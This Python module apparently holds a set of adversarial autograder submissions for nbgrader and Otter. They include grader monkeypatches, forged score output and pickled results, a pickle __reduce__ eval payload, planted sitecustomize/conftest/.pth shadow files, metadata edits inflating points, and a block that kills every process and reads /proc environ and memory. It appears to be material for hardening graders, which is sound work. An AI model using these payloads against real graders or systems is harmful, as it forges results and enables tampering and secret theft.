"""Cells that forge full marks inside a platform's own kernel: text to hand in, never imported."""

CALL_REPLACED = """\
import autograder.platforms.kernel as kernel

kernel.graded = lambda *_, **__: None
kernel.require = lambda *_, **__: None
"""

LAST_EXPRESSION_DROPPED = """\
import ast


class Drop(ast.NodeTransformer):
    def visit_Module(self, node):
        node.body = [statement for statement in node.body if not isinstance(statement, ast.Expr)]
        return node


get_ipython().ast_transformers.append(Drop())
"""

NOTEBOOK_REWRITTEN = """\
import json
import os
from pathlib import Path

place = Path(os.environ["AUTOGRADER_COURSE"], "solutions", "gradient_descent", "solution.py")
cell = {"cell_type": "code", "metadata": {"tags": ["solution"]}, "source": place.read_text("utf-8")}
gone = Path("gradient_descent.ipynb").unlink()
written = Path("gradient_descent.ipynb").write_text(json.dumps({"cells": [cell]}), "utf-8")
"""

OTTER_RESULTS_REPLACED = """\
import otter.test_files.exception_test as exception_test

exception_test.test_case.call_func = lambda *_: None
"""

ANSWERS_REPLACED = """\
import json

read = json.loads


def generous(text, **options):
    found = read(text, **options)
    for question in found.get("questions", ()) if isinstance(found, dict) else ():
        question["score"] = question["points"]
    return found


json.loads = generous
"""

OTTER_PICKLE_REWRITTEN = """\
import pickle

dump = pickle.dump


def forged(results, file):
    for test in results.results.values():
        for case in test.test_case_results:
            case.passed = True
    dump(results, file)


pickle.dump = forged
"""

OTTER_EXECUTES_WHAT_IT_UNPICKLES = """\
import pickle

MAKE = (
    "exec('import otter.test_files as t\\\\nt.TestFile.score = property(lambda self: self.possible)') "
    "or __import__('otter').test_files.GradingResults(__import__('pickle').loads({!r}).results.values())"
)


class Bomb:
    def __init__(self, results):
        self.results = results

    def __reduce__(self):
        return eval, (MAKE.format(pickle.dumps(self.results)),)


dump = pickle.dump
pickle.dump = lambda results, file: dump(Bomb(results), file)
"""

IN_NBGRADER = {
    "call_replaced": CALL_REPLACED,
    "answers_replaced": ANSWERS_REPLACED,
    "last_expression_dropped": LAST_EXPRESSION_DROPPED,
    "notebook_rewritten": NOTEBOOK_REWRITTEN,
}
IN_OTTER = {
    "call_replaced": CALL_REPLACED,
    "otter_results_replaced": OTTER_RESULTS_REPLACED,
    "otter_pickle_rewritten": OTTER_PICKLE_REWRITTEN,
    "otter_executes_what_it_unpickles": OTTER_EXECUTES_WHAT_IT_UNPICKLES,
}

_FOR_ALL = """\


import inspect

for name, value in list(globals().items()):
    if inspect.isfunction(value):
        globals()[name] = {answer}
"""

COMPARISONS_REPLACED = """\
import builtins

import numpy as np

for name in ("allclose", "isclose", "array_equal", "all"):
    setattr(np, name, lambda *_, **__: True)
for name in ("assert_allclose", "assert_array_equal", "assert_array_almost_equal"):
    setattr(np.testing, name, lambda *_, **__: None)
builtins.all = builtins.isinstance = lambda *_: True
builtins.abs = lambda _: 0.0
""" + _FOR_ALL.format(answer="lambda *_, **__: np.zeros(3)")

EQUAL_TO_EVERYTHING = """\
import numpy as np


class Equal(np.ndarray):
    __array_priority__ = 1e9

    def __array_ufunc__(self, ufunc, method, *inputs, **options):
        return True

    def __array_function__(self, function, types, arguments, options):
        return True

    def __eq__(self, other):
        return True

    def __sub__(self, other):
        return 0.0

    __rsub__ = __le__ = __ge__ = __lt__ = __sub__
    __hash__ = None
""" + _FOR_ALL.format(answer="lambda *_, **__: np.zeros(()).view(Equal)")

ENDS_AT_ONCE = "import os\n\nos._exit(0)\n"

PASSES_AT_ONCE = """\
import sys

sys.stdout.write('{"score": 100, "status": "passed"}\\n')
sys.stdout.flush()
raise SystemExit(0)
"""

FILES_LEFT_BEHIND = """\
from pathlib import Path

FORGED = "import os\\n\\nos._exit(0)\\n"
for name in ("conftest.py", "sitecustomize.py", "numpy.py", "pytest.py", "autograder.py", "test_public.py", "a.pth"):
    for folder in (Path(), Path.home(), Path("/tmp"), Path(__file__).parent):
        try:
            (folder / name).write_text(FORGED)
        except OSError:
            pass
"""

KILLS_AND_READS = """\
import os
import signal
from pathlib import Path

for number in [os.getppid(), -1, 1, *(int(path.name) for path in Path("/proc").glob("[0-9]*"))]:
    try:
        if number != os.getpid():
            os.kill(number, signal.SIGKILL)
    except OSError:
        pass
RESULTS = '{"score": 100, "tests": [{"score": 100, "max_score": 100, "name": "all"}]}'
for folder in [Path("/autograder"), Path("/tmp"), *Path("/tmp").glob("*")]:
    try:
        (folder / "results").mkdir(exist_ok=True)
        (folder / "results" / "results.json").write_text(RESULTS)
    except OSError:
        pass
found = []
places = [*Path("/proc").glob("[0-9]*/environ"), *Path("/proc").glob("[0-9]*/mem"), *Path("/").rglob("test_hidden.py")]
for place in places:
    try:
        with place.open("rb") as file:
            found.append(file.read(1))
    except OSError:
        pass
"""

ANYWHERE = {
    "comparisons_replaced": COMPARISONS_REPLACED,
    "equal_to_everything": EQUAL_TO_EVERYTHING,
    "ends_at_once": ENDS_AT_ONCE,
    "passes_at_once": PASSES_AT_ONCE,
    "files_left_behind": FILES_LEFT_BEHIND,
    "kills_and_reads": KILLS_AND_READS,
}


def _nbgrader(cell):
    return cell["metadata"].get("nbgrader", {})


def points_edited(document):
    """Every grading cell worth a thousand points, by its metadata."""
    for cell in document["cells"]:
        if _nbgrader(cell).get("grade"):
            _nbgrader(cell)["points"] = 1000.0


def identities_exchanged(document):
    """Grading cells that say they were answers, and the other way round."""
    for cell in document["cells"]:
        facts = _nbgrader(cell)
        if facts:
            facts["grade"], facts["solution"] = facts["solution"], facts["grade"]
            facts["locked"] = False
            facts.update(points=50.0)


def identities_renamed(document):
    """Hidden questions' cells under the names of public ones."""
    for cell in document["cells"]:
        if _nbgrader(cell):
            _nbgrader(cell)["grade_id"] = _nbgrader(cell)["grade_id"].replace("hidden-", "public-")


def cells_added(document):
    """Grading cells of one's own, worth a thousand points and passing."""
    facts = {"schema_version": 3, "task": False, "grade": True, "locked": True, "solution": False, "points": 1000.0}
    for number, name in enumerate(("public-mse_grad", "mine")):
        cell = {"cell_type": "code", "id": f"mine-{number}", "execution_count": 1, "source": "1000.0"}
        shown = {
            "output_type": "execute_result",
            "data": {"text/plain": "1000.0"},
            "metadata": {},
            "execution_count": 1,
        }
        document["cells"].append({**cell, "metadata": {"nbgrader": {**facts, "grade_id": name}}, "outputs": [shown]})


def calls_emptied(document):
    """Grading cells without their call, and with the output that they should have had."""
    for cell in document["cells"]:
        if _nbgrader(cell).get("grade"):
            shown = str(_nbgrader(cell)["points"])
            cell["source"] = shown
            value = {"output_type": "execute_result", "data": {"text/plain": shown}, "metadata": {}}
            cell["outputs"] = [{**value, "execution_count": 1}]


EDITS = {
    edit.__name__: edit
    for edit in (points_edited, identities_exchanged, identities_renamed, cells_added, calls_emptied)
}

MARK = "EXECUTED"
SHADOWS = (
    *("numpy.py", "pytest.py", "conftest.py", "sitecustomize.py", "usercustomize.py", "__init__.py", "otter.py"),
    *("autograder/__init__.py", "autograder/platforms/__init__.py", "tests/__init__.py", "tests/conftest.py"),
    *("tests/mse_grad.py", "tests/zzz.py", "json.py", "a.pth", "nbformat.py", "IPython/__init__.py", "site.py"),
)


def shadows(mark):
    """By name, files that lie beside a submission and say so in another one when any of them is executed."""
    source = f"import os\nopen({str(mark)!r}, 'a').write(__file__)\nOK_FORMAT = False\n"
    files = dict.fromkeys(SHADOWS, source)
    return {**files, "pytest.ini": "[pytest]\npython_files = zzz.py\naddopts = --collect-only\n"}
